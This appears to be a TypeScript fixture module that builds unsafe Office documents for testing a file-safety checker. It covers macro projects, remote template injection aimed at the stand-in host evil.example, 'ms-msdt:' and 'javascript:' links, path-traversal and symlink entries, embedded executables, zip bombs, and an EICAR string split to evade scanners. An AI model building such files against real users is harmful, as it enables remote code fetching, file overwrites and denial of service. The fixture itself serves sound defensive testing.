import { createDeflateRaw } from 'node:zlib';
import { buffer } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import {
  compound,
  contentTypes,
  doc,
  docx,
  file,
  MAIN,
  outside,
  relations,
  relationsText,
  xlsx,
  zip,
} from './office-files.js';
import type { ZipFile } from './office-files.js';

const MEGABYTE = 1_048_576;
const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]);
const SETTINGS = 'word/_rels/settings.xml.rels';
const DOCUMENT = 'word/_rels/document.xml.rels';
/** In two parts, so that no scanner finds it here. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

/** So many zeros, deflated, and the same said of them. */
export async function zeros(name: string, bytes: number, said?: number): Promise<ZipFile> {
  const piece = Buffer.alloc(MEGABYTE);
  const pieces = Array.from({ length: bytes / MEGABYTE }, () => piece);
  const packed = await buffer(Readable.from(pieces).pipe(createDeflateRaw()));
  return { name, content: '', packed, said: { size: said ?? bytes } };
}

type Unsafe = [what: string, name: string, bytes: Buffer];
const inDocx = (what: string, ...files: ZipFile[]): Unsafe => [what, 'guide.docx', docx(...files)];
const linked = (what: string, type: string, target: string): Unsafe =>
  inDocx(what, relations(DOCUMENT, outside(type, target)));
const inside = (what: string, name: string, content: Buffer | string): Unsafe =>
  inDocx(what, file(`word/embeddings/${name}`, content));
const climbing = (name: string): Unsafe => inDocx(`a file named ${name}`, file(name, 'x'));

const encoded = (encoding: 'utf16le', mark: string, text: string) =>
  Buffer.concat([Buffer.from(mark, 'hex'), Buffer.from(text, encoding)]);
const remote = [outside('attachedTemplate', 'https://evil.example/t.dotm')];

export const macros: Unsafe[] = [
  inDocx('a project of macros', file('word/vbaProject.bin', compound({ '/VBA/dir': 'x' }))),
  inDocx('a project of macros in another case', file('Word/VBAProject.BIN', 'x')),
  inDocx(
    'the content type of a document with macros',
    contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
  ),
  inDocx('the content type of a project of macros', contentTypes(MAIN, 'application/vnd.ms-office.vbaProject')),
  inDocx('a relation to macros', relations(DOCUMENT, { type: 'vbaProject', target: 'part0.bin' })),
  inDocx('a control', file('word/activeX/activeX1.bin', 'x')),
  inDocx('a relation to a control', relations(DOCUMENT, { type: 'control', target: 'part0.xml' })),
  inside('a workbook with macros', 'book.xlsx', xlsx(file('xl/vbaProject.bin', 'x'))),
  inside(
    'an old workbook with macros',
    'oleObject1.bin',
    compound({ '/Workbook': 'x', '/_VBA_PROJECT_CUR/VBA/dir': 'x' }),
  ),
  ['macros', 'guide.doc', doc({ '/Macros/VBA/dir': 'x', '/Macros/PROJECT': 'x' })],
  ['macros in an object', 'guide.doc', doc({ '/ObjectPool/_1/_VBA_PROJECT_CUR/VBA/dir': 'x' })],
];

export const reaching: Unsafe[] = [
  inDocx('a template of another site', relations(SETTINGS, ...remote)),
  inDocx(
    'a template of a share',
    relations(SETTINGS, outside('attachedTemplate', 'file://///evil.example/share/t.dotm')),
  ),
  inDocx(
    'a template written with entities',
    relations(SETTINGS, outside('attachedTemplate', '&#104;ttps://evil.example/')),
  ),
  inDocx('a template in small letters', relations(SETTINGS, { ...remote[0]!, mode: 'external' })),
  inDocx(
    'a template that is said to be inside',
    relations(SETTINGS, { type: 'attachedTemplate', target: 'https://evil.example/' }),
  ),
  inDocx('a template in UTF-16', file(SETTINGS, encoded('utf16le', 'fffe', relationsText(remote)))),
  inDocx(
    'a template under a prefix',
    file(
      SETTINGS,
      relationsText(remote).replaceAll('<Rel', '<p:Rel').replaceAll('</Rel', '</p:Rel').replace('xmlns=', 'xmlns:p='),
    ),
  ),
  inDocx('a template of a part with capitals', file('WORD/_RELS/SETTINGS.XML.RELS', relationsText(remote))),
  linked('a picture of another site', 'image', 'https://evil.example/pixel.png'),
  linked('a frame of another site', 'frame', 'http://evil.example/'),
  linked('an object of another site', 'oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html'),
  linked('a text of another site', 'aFChunk', 'https://evil.example/x.rtf'),
  linked('a link to a share', 'hyperlink', '\\\\evil.example\\share'),
  linked('a link to a file', 'hyperlink', 'file:///C:/Windows/System32/calc.exe'),
  linked('a link that is a script', 'hyperlink', 'javascript:alert(1)'),
  linked('a link that opens a program', 'hyperlink', 'ms-msdt:/id PCWDiagnostic'),
  linked('a link of a made-up kind', 'https://evil.example/hyperlink', 'https://evil.example/'),
  inside(
    'a workbook linked to another',
    'b.xlsx',
    xlsx(relations('xl/_rels/a.rels', outside('externalLinkPath', 'file:///b.xlsx'))),
  ),
];

export const containing: Unsafe[] = [
  inside('a program', 'setup.bin', PROGRAM),
  inside('a packed program', 'oleObject1.bin', compound({ '/\u0001Ole10Native': PROGRAM })),
  inside('an archive of anything', 'files.zip', zip([file('setup.exe', PROGRAM)])),
  inside('an archive of another kind', 'files.7z', Buffer.from('377abcaf271c0004', 'hex')),
  inside('documents in documents in documents', 'a.docx', nested(4)),
  ['a packed program', 'guide.doc', doc({ '/ObjectPool/_1/\u0001Ole10Native': PROGRAM })],
];

function nested(times: number): Buffer {
  return times === 0 ? docx() : docx(file('word/embeddings/inner.docx', nested(times - 1)));
}

export const climbers: Unsafe[] = [
  ...[
    '../../evil.txt',
    'word/../../evil.txt',
    '/etc/passwd',
    'C:\\evil.txt',
    '\\\\evil\\share',
    'word\\..\\..\\evil',
  ].map(climbing),
  ...['word/%2e%2e/%2e%2e/evil', 'word/evil\u0000.xml', '..'].map(climbing),
  inDocx('a link to another place', file('word/link', '/etc/passwd', { attributes: (0o120_777 << 16) >>> 0 })),
];

export const ambiguous: Unsafe[] = [
  inDocx('two parts with one name', file('word/settings.xml', '<a/>'), file('word/Settings.xml', '<a/>')),
  inDocx('a definition of entities', file('word/styles.xml', '<!DOCTYPE a [<!ENTITY b "b">]><a>&b;</a>')),
  inDocx('a definition in its relations', file(SETTINGS, `<!DOCTYPE a>${relationsText([])}`)),
  inDocx('a password', file('word/settings.xml', '<a/>', { flags: 1 })),
  ['a password', 'guide.doc', compound({ '/EncryptedPackage': 'x', '/EncryptionInfo': 'x' })],
];

/** Files that another reader would read in another way, and files of another kind. */
export const disguised: Unsafe[] = [
  inDocx('another name in its header', file('word/settings.xml', '<a/>', { name: 'word/vbaData1.xml' })),
  inDocx('another name in an extra field', file(SETTINGS, relationsText([]), { unicodeName: 'word/a.xml' })),
  inDocx('a part in pieces', file(`${SETTINGS}/[0].piece`, '<a/>')),
  inDocx('relations in an unknown encoding', file(SETTINGS, '<?xml version="1.0" encoding="ibm037"?><a/>')),
  inDocx('relations that are no XML', file(SETTINGS, '<a><b></a>')),
  inDocx('relations in UTF-16 without a mark', file(SETTINGS, Buffer.from(relationsText(remote), 'utf16le'))),
  inDocx('a size that is too small', file('word/settings.xml', '<a/>'.repeat(100), { size: 4 })),
  ['half of its bytes', 'guide.docx', docx(file('word/a.xml', 'a')).subarray(0, 600)],
  ['a workbook', 'guide.docx', xlsx()],
  ['an archive', 'guide.docx', zip([file('a.txt', 'a')])],
  ['an old workbook', 'guide.doc', compound({ '/Workbook': Buffer.alloc(5_000, 'x') })],
  ['an old workbook with a document inside', 'guide.doc', compound({ '/Workbook': 'x', '/MBD1/WordDocument': 'x' })],
  ['an old presentation', 'guide.doc', compound({ '/PowerPoint Document': 'x', '/WordDocument': 'x' })],
  ['an installer', 'guide.doc', compound({ '/\u4840\u3b3f': 'x' })],
  ['half of its bytes', 'guide.doc', doc().subarray(0, 700)],
  ['an endless directory', 'guide.doc', endless(doc())],
];

/** The table says of every sector that it is followed by the first of the directory. */
function endless(bytes: Buffer): Buffer {
  const directory = bytes.readUInt32LE(48);
  const copy = Buffer.from(bytes);
  const table = (bytes.readUInt32LE(76) + 1) * 512;
  for (let at = table; at < table + 512; at += 4) copy.writeUInt32LE(directory, at);
  return copy;
}

export const bombs = async (): Promise<Unsafe[]> => [
  inDocx('a gigabyte of zeros', await zeros('word/a.xml', 1_024 * MEGABYTE)),
  inDocx('two hundred times its size', await zeros('word/a.xml', 20 * MEGABYTE)),
  inDocx('more than it says', await zeros('word/a.xml', 200 * MEGABYTE, 1_000)),
  inDocx('many files of one size', ...(await manyTimes(120))),
  inside('a bomb', 'b.xlsx', xlsx(await zeros('xl/a.xml', 60 * MEGABYTE), await zeros('xl/b.xml', 60 * MEGABYTE))),
];

async function manyTimes(count: number): Promise<ZipFile[]> {
  const one = await zeros('', MEGABYTE);
  return Array.from({ length: count }, (_, i) => ({ ...one, name: `word/${i}.xml` }));
}
export const crowded = () => docx(...Array.from({ length: 2_000 }, (_, i) => file(`word/${i}.xml`, '')));
